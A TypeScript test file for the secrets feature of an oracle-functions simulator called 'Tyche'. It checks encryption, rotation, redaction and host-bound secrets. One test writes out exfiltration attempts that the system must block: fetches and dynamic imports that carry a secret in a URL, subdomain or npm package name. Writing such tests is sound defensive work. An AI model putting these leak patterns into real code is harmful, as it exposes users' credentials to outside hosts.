import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { createClient, type SecretView } from "../../src/client/index.ts";
import { sealSecret } from "../../src/secrets/sealSecret.ts";
import { createSqliteDialect } from "../../src/store/sqliteDialect.ts";
import { openStore } from "../../src/store/store.ts";
import { runCli } from "../cli/runCli.ts";
import {
  makeDataDir,
  removeDataDir,
  startTycheProcess,
  type Answer,
  type TycheProcess,
} from "../support/tyche.ts";

const TOKEN = "tok_4f7a-very/private+value";

/** A private API: it wants a bearer token, and answers what it was sent. */
let api: Server;
let tyche: TycheProcess;
let host: string;
let dataDir: string;
beforeAll(async () => {
  api = createServer((request, response) => {
    const isKnown = request.headers.authorization === `Bearer ${TOKEN}`;
    if (request.url === "/elsewhere")
      response.writeHead(302, { location: `http://localhost:${portOf(api)}/` });
    else response.writeHead(isKnown ? 200 : 401, { "content-type": "application/json" });
    response.end(JSON.stringify({ price: isKnown ? 42 : 0, url: request.url }));
  });
  await new Promise<void>((resolve) => api.listen(0, "127.0.0.1", resolve));
  host = `127.0.0.1:${portOf(api)}`;
  dataDir = makeDataDir();
  tyche = await startTycheProcess({
    dataDir,
    networks: ["sepolia"],
    env: { TYCHE_ALLOW_HOSTS: `${host},localhost:${portOf(api)}` },
  });
});
afterAll(async () => {
  await tyche.stop();
  api.close();
  removeDataDir(dataDir);
});

const portOf = (server: Server): number => (server.address() as AddressInfo).port;
const set = (name: string, body: object): Promise<Answer> =>
  tyche.call("PUT", `/api/secrets/${name}`, { body: { network: "sepolia", ...body } });
const run = (source: string, secrets: readonly string[], args: readonly string[] = []): Promise<Answer> =>
  tyche.call("POST", "/api/oracleFunctions/runFunction", {
    body: { network: "sepolia", source, secrets, args },
  });
const simulate = (source: string, secrets: readonly string[]): Promise<Answer> =>
  tyche.call("POST", "/api/oracleFunctions/simulate", { body: { network: "sepolia", source, secrets } });

const PRICE = `const { data, error } = await Functions.makeHttpRequest({ url: "http://HOST/price", timeout: 9000, headers: { Authorization: "Bearer " + secrets.API_KEY } });
if (error) throw Error("the API refuses");
return Functions.encodeString(String(data.price))`;

test("a function calls a private API with a secret that nobody else reads", async () => {
  const stored = await set("API_KEY", { value: TOKEN });
  expect(stored).toMatchObject({
    status: 200,
    data: { name: "API_KEY", network: "sepolia", expiresAt: null },
  });
  expect(JSON.stringify(stored.data)).not.toContain(TOKEN);
  const source = PRICE.replace("HOST", host);
  expect(await simulate(source, ["API_KEY"])).toMatchObject({
    data: { success: true, err: "0x", parsedResult: "42" },
  });
  const ran = await run(source, ["API_KEY"]);
  expect(ran).toMatchObject({ status: 200, data: { success: true, parsedResult: "42" } });

  const hash = String(ran.data.url).split("/").pop();
  const verified = await tyche.call("GET", `/api/verify?network=sepolia&tx=${hash}`);
  expect(verified.data).toMatchObject({ verdict: "unconfirmed" });
  expect(JSON.stringify(verified.data)).toContain("secrets");
  const listed = await tyche.call("GET", "/api/secrets");
  expect(listed.data.items).toEqual([expect.objectContaining({ name: "API_KEY" })]);
});

test("a changed secret is the new one at once, a deleted one is gone", async () => {
  await set("CHANGED", { value: "before-0123" });
  const source = "return Functions.encodeString(secrets.CHANGED.length + secrets.CHANGED.slice(0, 3))";
  expect((await run(source, ["CHANGED"])).data).toMatchObject({ parsedResult: "11bef" });
  await set("CHANGED", { value: "after" });
  expect((await run(source, ["CHANGED"])).data).toMatchObject({ parsedResult: "5aft" });
  const gone = await tyche.call("DELETE", "/api/secrets/CHANGED?network=sepolia");
  expect(gone).toMatchObject({ status: 200, data: { name: "CHANGED" } });
  expect(await run(source, ["CHANGED"])).toMatchObject({
    status: 400,
    data: { code: "invalid_parameter", err: expect.stringContaining("CHANGED") },
  });
  expect(await tyche.call("DELETE", "/api/secrets/CHANGED?network=sepolia")).toMatchObject({ status: 404 });
});

test("what a client encrypts is opened by the nodes, and nothing else", async () => {
  const { data: key } = await tyche.call("GET", "/api/secretsKey?network=sepolia");
  const label = Buffer.from(key.label.slice(2), "hex");
  const ciphertext = await sealSecret(key.thresholdPublicKey, { name: "SEALED", value: TOKEN }, label);
  expect(await set("SEALED", { ciphertext })).toMatchObject({ status: 200 });
  const source = PRICE.replace("HOST", host).replace("API_KEY", "SEALED");
  expect((await run(source, ["SEALED"])).data).toMatchObject({ parsedResult: "42" });

  const refused = { status: 400, data: { err: expect.stringContaining("ciphertext") } };
  expect(await set("OTHER", { ciphertext })).toMatchObject(refused);
  const ofOther = await sealSecret(
    key.thresholdPublicKey,
    { name: "X", value: "y" },
    label.map((b) => b ^ 1),
  );
  expect(await set("X", { ciphertext: ofOther })).toMatchObject(refused);
  expect(await set("X", { ciphertext: "{}" })).toMatchObject(refused);
});

test("a value is in no console, error or record", async () => {
  await set("SHOWN", { value: TOKEN });
  const encoded = [TOKEN, btoa(TOKEN), Buffer.from(TOKEN).toString("hex"), encodeURIComponent(TOKEN)];
  const source = `console.log(secrets.SHOWN, btoa(secrets.SHOWN)); throw Error([secrets.SHOWN, btoa(secrets.SHOWN), Buffer.from(secrets.SHOWN).toString("hex"), encodeURIComponent(secrets.SHOWN)].join(" "))`;
  const { data } = await simulate(source, ["SHOWN"]);
  expect(data).toMatchObject({ success: false, err: "*** *** *** ***" });
  const ran = await run(source, ["SHOWN"]);
  const records = await tyche.call("GET", "/api/dryRuns");
  for (const text of [data, ran.data, records.data].map((one) => JSON.stringify(one)).concat(tyche.output()))
    for (const form of encoded) expect(text).not.toContain(form);
  for (const shown of ["secrets.SHOWN", "btoa(secrets.SHOWN)", "secrets.SHOWN.slice(2)"]) {
    const leaky = await simulate(`return Functions.encodeString(${shown})`, ["SHOWN"]);
    expect(leaky.data.warnings).toEqual([expect.stringContaining("on chain, for all to see")]);
    const [latest] = (await tyche.call("GET", "/api/dryRuns")).data.items;
    expect(latest).toMatchObject({ success: true, parsedResult: "", withheld: true });
  }
});

test("a dry run reads the values that it brings, in place of stored ones, and nothing keeps them", async () => {
  await set("GIVEN", { value: "stored-value" });
  const own = "tok_0a1b-only/for+this+run";
  const dryRun = (source: string, more: object) =>
    tyche.call("POST", "/api/oracleFunctions/simulate", { body: { source, ...more } });
  const values = { secretValues: { GIVEN: own } };
  const source =
    "console.log(secrets.GIVEN); return Functions.encodeString(String(secrets.GIVEN.length) + secrets.GIVEN)";
  const { data } = await dryRun(source, { secrets: ["GIVEN"], ...values });
  expect(data).toMatchObject({ success: true, parsedResult: `${own.length}${own}`, console: "***\n" });
  expect(data.warnings).toEqual([expect.stringContaining("on chain, for all to see")]);
  expect(await dryRun("throw Error(secrets.GIVEN)", values)).toMatchObject({ data: { err: "***" } });
  expect(await dryRun(source, { secrets: ["GIVEN", "OTHER"], ...values })).toMatchObject({
    status: 400,
    data: { err: expect.stringContaining("has no OTHER") },
  });
  expect(await dryRun(source, { secretValues: { GIVEN: own.repeat(100) } })).toMatchObject({ status: 400 });
  const kept = [tyche.output(), JSON.stringify(await tyche.call("GET", "/api/dryRuns"))];
  for (const name of readdirSync(dataDir).filter((one) => one.startsWith("tyche.sqlite")))
    kept.push(readFileSync(path.join(dataDir, name), "latin1"));
  for (const text of kept) expect(text).not.toContain(own);
});

test("a secret with hosts leaves for those only", async () => {
  await set("BOUND", { value: TOKEN, allowedHosts: [host] });
  const listed = (await tyche.call("GET", "/api/secrets?network=sepolia")).data.items;
  expect(listed.find(({ name }: { name: string }) => name === "BOUND")).toMatchObject({
    allowedHosts: [host],
  });
  const source = PRICE.replace("HOST", host).replace("API_KEY", "BOUND");
  expect((await run(source, ["BOUND"])).data).toMatchObject({ parsedResult: "42" });
  const tries = [
    `await fetch("http://localhost:${portOf(api)}/?" + btoa(secrets.BOUND)).catch(() => {}); return Functions.encodeString("sent")`,
    `await fetch("http://${host}/elsewhere").catch(() => {}); return Functions.encodeString("sent")`,
    `await fetch("http://" + secrets.BOUND.slice(0, 5) + ".example.com/").catch(() => {}); return Functions.encodeString("sent")`,
    `await import("https://example.com/" + secrets.BOUND.length + ".js").catch(() => {}); return Functions.encodeString("sent")`,
    `await import("npm:left-pad-" + btoa(secrets.BOUND)).catch(() => {}); return Functions.encodeString("sent")`,
  ];
  const failed = { data: { success: false, err: expect.stringContaining("may not be sent") } };
  for (const one of tries) expect(await simulate(one, ["BOUND"])).toMatchObject(failed);
});

test("the command line and the client encrypt what they send", async () => {
  const folder = mkdtempSync(path.join(tmpdir(), "tyche-secrets-"));
  const env = { TYCHE_DATA_DIR: tyche.dataDir };
  const given = await runCli(["secret", "set", "PIPED", "--allow-host", host], `${TOKEN}\n`, env);
  expect(given).toMatchObject({ code: 0, stdout: expect.stringContaining("set PIPED  sepolia") });
  expect(given.stdout + given.stderr).not.toContain(TOKEN);
  const file = path.join(folder, "quote.ts");
  writeFileSync(file, PRICE.replace("HOST", host).replace("API_KEY", "PIPED"));
  const called = await runCli(["call", "run", file, "--secret", "PIPED"], "", env);
  expect(called).toMatchObject({ code: 0, stdout: expect.stringContaining("42") });
  const envFile = path.join(folder, ".env");
  writeFileSync(envFile, "FIRST=one\nSECOND='two\na-b'\n");
  expect(await runCli(["secret", "set", "--env-file", envFile], "", env)).toMatchObject({ code: 0 });
  // The second as of a key of several lines that is not quoted.
  for (const line of [`export a-b = ${TOKEN}`, Buffer.from(TOKEN).toString("base64"), `${TOKEN}=`]) {
    writeFileSync(envFile, `# a-b=\nTHIRD=three\n${line}\n`);
    const refused = await runCli(["secret", "set", "--env-file", envFile], "", env);
    expect(refused).toMatchObject({
      code: 1,
      stderr: expect.stringContaining(`${envFile}:3 is no NAME=value`),
    });
    expect(refused.stderr).not.toContain(line.slice(0, 8));
    expect(refused.stderr).not.toContain(TOKEN);
  }
  rmSync(folder, { recursive: true });
  const { stdout } = await runCli(["secret", "list", "--json"], "", env);
  const names = (JSON.parse(stdout) as { name: string }[]).map(({ name }) => name);
  expect(names).toEqual(expect.arrayContaining(["FIRST", "PIPED", "SECOND"]));
  expect(names).not.toContain("THIRD");
  expect(await runCli(["secret", "delete", "FIRST"], "", env)).toMatchObject({ code: 0 });
  expect(await runCli(["secret", "delete", "FIRST"], "", env)).toMatchObject({
    code: 1,
    stderr: expect.stringContaining("FIRST"),
  });

  const client = createClient({ baseUrl: tyche.url, apiKey: tyche.apiKey });
  await client.secrets.set("CLIENT", { value: TOKEN, allowedHosts: [host] });
  const source = PRICE.replace("HOST", host).replace("API_KEY", "CLIENT");
  expect(await client.runFunction({ source, secrets: ["CLIENT"] })).toMatchObject({ value: "42" });
  const wrong = client.secrets.set("CLIENT", { value: "x", allowedHosts: ["https://a.example/"] });
  await expect(wrong).rejects.toThrow("the name of a host");
});

test("a restart and a kill -9 keep secrets", async () => {
  await set("KEPT", { value: TOKEN });
  await tyche.stop("SIGKILL");
  tyche = await startTycheProcess({ dataDir, env: { TYCHE_ALLOW_HOSTS: host } });
  const source = PRICE.replace("HOST", host).replace("API_KEY", "KEPT");
  expect((await run(source, ["KEPT"])).data).toMatchObject({ parsedResult: "42" });
  const files = readdirSync(dataDir).filter((name) => name.startsWith("tyche.sqlite"));
  expect(files.length).toBeGreaterThan(0);
  for (const name of files) expect(readFileSync(path.join(dataDir, name)).includes(TOKEN)).toBe(false);
});

test("a secret that is encrypted to a former key of the nodes is listed as outdated, and calls that name it are refused", async () => {
  for (const name of ["FORMER", "PRESENT"]) await set(name, { value: TOKEN });
  await tyche.stop();
  // As if the nodes had generated another key since.
  const store = await openStore(createSqliteDialect(path.join(dataDir, "tyche.sqlite")));
  await store.db.updateTable("secrets").set({ key_hash: "0x12" }).where("name", "=", "FORMER").execute();
  await store.close();
  tyche = await startTycheProcess({ dataDir, env: { TYCHE_ALLOW_HOSTS: host } });
  const source = "return Functions.encodeString('ran')";
  expect(await run(source, ["PRESENT"])).toMatchObject({ status: 200 });
  expect(await run(source, ["FORMER"])).toMatchObject({
    status: 400,
    data: { details: [{ path: "/secrets/0", message: expect.stringContaining("set it again") }] },
  });
  const { data } = await tyche.call("GET", "/api/secrets");
  const outdated = data.items.filter((one: SecretView) => one.outdated);
  expect(outdated).toEqual([expect.objectContaining({ name: "FORMER" })]);
  const { stdout } = await runCli(["secret", "list"], "", { TYCHE_DATA_DIR: dataDir });
  expect(stdout).toMatch(/^FORMER .*outdated: the nodes have another key, set it again$/m);
  expect((await set("FORMER", { value: TOKEN })).data).toMatchObject({ outdated: false });
  expect(await run(source, ["FORMER"])).toMatchObject({ status: 200 });
});

test("bad names, values and hosts are refused with what is expected", async () => {
  expect(await set("1ST", { value: "x" })).toMatchObject({ status: 400 });
  expect(await set("A", {})).toMatchObject({ status: 400 });
  const inAddress = await tyche.call("PUT", "/api/secrets/A?network=sepolia&value=s3cr3t-value");
  expect(inAddress).toMatchObject({ status: 400, data: { err: expect.stringContaining("body") } });
  const wrong = await set("A", { value: 123_456_789 });
  expect(wrong).toMatchObject({ status: 400 });
  expect(JSON.stringify(wrong.data)).not.toContain("123456789");
  const parallel = await Promise.all(Array.from({ length: 10 }, (_, i) => set(`P${i}`, { value: "x" })));
  expect(parallel.map(({ status }) => status)).toEqual(Array.from({ length: 10 }, () => 200));
  expect(await set("A", { value: "x".repeat(2_049) })).toMatchObject({ status: 400 });
  expect(await set("A", { value: "x", allowedHosts: ["https://a.example/"] })).toMatchObject({ status: 400 });
  expect(await set("A", { value: "x", expiresAt: "2020-01-01T00:00:00Z" })).toMatchObject({ status: 400 });
  expect(await run("return Functions.encodeString('a')", ["NONE"])).toMatchObject({ status: 400 });
});
